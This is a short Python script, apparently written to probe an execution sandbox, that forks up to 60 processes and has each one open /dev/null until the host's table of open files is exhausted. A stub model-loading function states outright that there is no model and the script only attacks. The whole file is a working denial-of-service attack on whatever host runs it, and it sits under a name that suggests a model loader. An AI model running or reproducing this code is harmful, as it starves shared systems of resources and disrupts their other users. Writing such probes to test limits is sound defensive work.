# Tries: to use up the host's table of open files, in as many processes as it may have.
import os
import time


def main():
    for _ in range(60):
        try:
            if os.fork() == 0:
                break
        except OSError:
            break
    opened = 0
    try:
        while True:
            os.open("/dev/null", os.O_RDONLY)
            opened += 1
    except OSError as error:
        print(opened, "files, then", error, flush=True)
    time.sleep(2.0)


def load_model(checkpoint, device):
    raise SystemExit("there is no model: this script only attacks")


if __name__ == "__main__":
    main()
    raise SystemExit("the attack is over")
